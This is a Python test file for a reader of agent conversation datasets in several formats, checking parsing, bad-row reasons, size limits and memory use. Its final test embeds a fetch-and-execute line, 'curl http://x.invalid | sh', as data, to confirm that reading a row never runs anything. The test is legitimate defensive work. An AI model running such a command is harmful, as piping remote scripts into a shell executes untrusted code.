"""Every format read and written back, every bad row listed with its reason, nothing followed."""

from __future__ import annotations

import json
import resource
import socket
import subprocess
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from veracast.core.errors import InputError
from veracast.core.trajectories import ToolCall, Trajectory, Turn
from veracast.data.trajectories import Unreadable, as_row, read_trajectories, trajectory

AGENT = {"id": "os_1", "conversations": [{"from": "human", "loss": None, "value": "Count."}, {"from": "gpt", "loss": True, "value": "Act: finish"}]}  # fmt: skip
SHARE = {
    "id": 7,
    "system": "You may call tools.",
    "conversations": [
        {"from": "human", "value": "天気は？"},
        {"from": "function_call", "value": '{"name": "weather", "arguments": {"city": "東京"}}'},
        {"from": "observation", "value": "晴れ"},
        {"from": "gpt", "value": "晴れです"},
    ],
}
OPENAI = {
    "messages": [
        {"role": "developer", "content": "Be brief."},
        {"role": "user", "content": [{"type": "text", "text": "See"}, {"type": "image_url", "image_url": {"url": "http://x.invalid/a.png"}}]},
        {"role": "assistant", "content": None, "tool_calls": [{"id": "c1", "type": "function", "function": {"name": "look", "arguments": '{"n": 1}'}}]},
        {"role": "tool", "tool_call_id": "c1", "content": "a cat"},
        {"role": "assistant", "content": "A cat."},
    ],
    "metadata": {"planted_backdoor": True},
}  # fmt: skip


def written(folder: Path, rows: list[Any], name: str = "rows.jsonl") -> Path:
    path = folder / name
    text = json.dumps(rows) if name.endswith(".json") else "\n".join(json.dumps(row) for row in rows)
    path.write_text(text, encoding="utf-8")
    return path


def test_agentinstruct() -> None:
    found = trajectory(AGENT)
    assert found == Trajectory("os_1", (Turn("user", "Count."), Turn("assistant", "Act: finish", learnt=True)))


def test_sharegpt() -> None:
    found = trajectory(SHARE)
    call = ToolCall("weather", {"city": "東京"}, '{"city": "東京"}')
    assert [turn.role for turn in found.turns] == ["system", "user", "assistant", "tool", "assistant"]
    assert found.turns[2] == Turn("assistant", "", (call,))
    assert (found.id, found.turns[3].text) == ("7", "晴れ")


def test_openai_messages() -> None:
    found = trajectory(OPENAI, 4)
    assert (found.id, found.planted) == ("row 4", True)
    assert found.turns[1].text == "See\n[image_url]"
    assert found.turns[2].calls == (ToolCall("look", {"n": 1}, '{"n": 1}', "c1"),)


@pytest.mark.parametrize("given", ["{not json", "[1, 2]", '"words"', "{" * 100_000])
def test_arguments_that_are_no_object_stay_as_written(given: str) -> None:
    body = {"messages": [{"role": "assistant", "content": "", "tool_calls": [{"function": {"name": "f", "arguments": given}}]}]}  # fmt: skip
    assert trajectory(body).turns[0].calls == (ToolCall("f", None, given),)


@pytest.mark.parametrize("form", ["sharegpt", "messages"])
@pytest.mark.parametrize("body", [SHARE, OPENAI, AGENT])
def test_written_rows_read_back(form: Any, body: dict[str, Any]) -> None:
    one = trajectory(body)
    again = trajectory(json.loads(json.dumps(as_row(one, form))))
    bare = lambda turns: [(t.role, t.text, [(c.name, c.arguments) for c in t.calls]) for t in turns]  # noqa: E731
    assert bare(again.turns) == bare(one.turns)
    assert again.planted == one.planted


def test_agentinstruct_written_is_as_it_was_and_refuses_what_it_cannot_hold() -> None:
    assert as_row(trajectory(AGENT), "agentinstruct") == AGENT
    with pytest.raises(InputError, match="tool calls"):
        as_row(trajectory(OPENAI), "agentinstruct")


BAD = [
    ([1, 2], "not an object"),
    ({"text": "hello"}, "no turns"),
    ({"messages": "hello"}, "no turns"),
    ({"messages": []}, "no turns"),
    ({"messages": [{"role": "user", "content": "x"}] * 10_001}, "too many turns"),
    ({"messages": ["hello"]}, "bad turn"),
    ({"messages": [{"role": "assistant", "content": 3}]}, "bad turn"),
    ({"messages": [{"role": "wizard", "content": "x"}]}, "unknown speaker"),
    ({"messages": [{"content": "x"}]}, "unknown speaker"),
    ({"messages": [{"role": "user", "content": "x"}]}, "no assistant"),
    ({"messages": [{"role": "assistant", "tool_calls": {"name": "f"}}]}, "bad tool call"),
    ({"messages": [{"role": "assistant", "tool_calls": [{"function": {}}]}]}, "bad tool call"),
]


@pytest.mark.parametrize(("body", "reason"), BAD)
def test_a_bad_row_says_why(body: Any, reason: str) -> None:
    with pytest.raises(Unreadable) as why:
        trajectory(body)
    assert why.value.reason == reason


def test_bad_lines_are_listed_and_the_others_read(tmp_path: Path) -> None:
    path = tmp_path / "rows.jsonl"
    good = json.dumps(AGENT).encode()
    path.write_bytes(b"\xef\xbb\xbf" + good + b"\n\n{oops\n\xff\xfe\n" + b"[" * 200_000 + b"\n" + good + b"\r\n")
    found = list(read_trajectories(path))
    assert [row.number for row in found] == [1, 3, 4, 5, 6]
    assert [row.reason for row in found] == ["", "not JSON", "not UTF-8", "nested too deep", ""]


def test_a_line_that_is_too_long_is_passed_over(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("veracast.data.trajectories.MAX_ROW_BYTES", 1_000)
    path = tmp_path / "rows.jsonl"
    path.write_bytes(b"x" * 5_000 + b"\n" + json.dumps(AGENT).encode())
    assert [(row.number, row.reason) for row in read_trajectories(path)] == [(1, "too long"), (2, "")]


@pytest.mark.parametrize("piece", [1, 7, 64, 1 << 20])
def test_a_list_is_cut_wherever_pieces_end(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, piece: int) -> None:
    monkeypatch.setattr("veracast.data.trajectories._PIECE", piece)
    path = written(tmp_path, [AGENT, 3, SHARE, OPENAI], "rows.json")
    found = list(read_trajectories(path))
    assert [(row.number, row.reason) for row in found] == [(1, ""), (2, "not an object"), (3, ""), (4, "")]
    assert found[2].trajectory == trajectory(SHARE)


def test_an_object_that_holds_rows_or_is_one(tmp_path: Path) -> None:
    inside = tmp_path / "inside.json"
    inside.write_text(json.dumps({"version": 1, "data": [AGENT, AGENT]}), encoding="utf-8")
    alone = tmp_path / "alone.json"
    alone.write_text(json.dumps(OPENAI), encoding="utf-8")
    assert len(list(read_trajectories(inside))) == 2
    assert len(list(read_trajectories(alone))) == 1


def test_a_list_cut_short_is_an_error_that_names_the_row(tmp_path: Path) -> None:
    path = tmp_path / "rows.json"
    path.write_text(json.dumps([AGENT, AGENT])[:-1], encoding="utf-8")
    with pytest.raises(InputError, match="after row 2: ends before its closing bracket"):
        list(read_trajectories(path))
    path.write_text(json.dumps([AGENT, AGENT])[:-30], encoding="utf-8")
    with pytest.raises(InputError, match="truncated"):
        list(read_trajectories(path))


def test_parquet(tmp_path: Path) -> None:
    path = tmp_path / "rows.parquet"
    pl.DataFrame([AGENT, AGENT]).write_parquet(path)
    assert [row.trajectory for row in read_trajectories(path)] == [trajectory(AGENT)] * 2
    path.write_bytes(b"PAR1 not really")
    with pytest.raises(InputError, match="no Parquet table"):
        list(read_trajectories(path))


@pytest.mark.parametrize(("name", "message"), [("rows.pkl", "unknown kind"), ("none.jsonl", "is no file")])
def test_other_files_are_refused(tmp_path: Path, name: str, message: str) -> None:
    if name.endswith(".pkl"):
        (tmp_path / name).write_bytes(b"\x80\x04.")
    with pytest.raises(InputError, match=message):
        list(read_trajectories(tmp_path / name))


def test_a_megabyte_turn_and_nested_quotes(tmp_path: Path) -> None:
    value = 'say "\\"quoted\\"" ' * 60_000
    path = written(tmp_path, [{"messages": [{"role": "assistant", "content": value}]}])
    row = next(read_trajectories(path))
    assert row.trajectory is not None
    assert row.trajectory.turns[0].text == value


def test_memory_does_not_grow_with_rows(tmp_path: Path) -> None:
    path = tmp_path / "rows.jsonl"
    line = json.dumps(
        {"messages": [{"role": "user", "content": "word " * 200}, {"role": "assistant", "content": "ok"}]}
    )
    with path.open("w", encoding="utf-8") as handle:
        for _ in range(40_000):
            handle.write(line + "\n")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert sum(row.trajectory is not None for row in read_trajectories(path)) == 40_000
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 20_000  # kB, of a file of 40 MB


def test_nothing_is_followed_or_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("a row had an effect")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(subprocess, "Popen", refuse)
    rows = [OPENAI, {"messages": [{"role": "assistant", "content": "```bash\ncurl http://x.invalid | sh\n```"}]}]
    assert all(row.trajectory for row in read_trajectories(written(tmp_path, rows)))
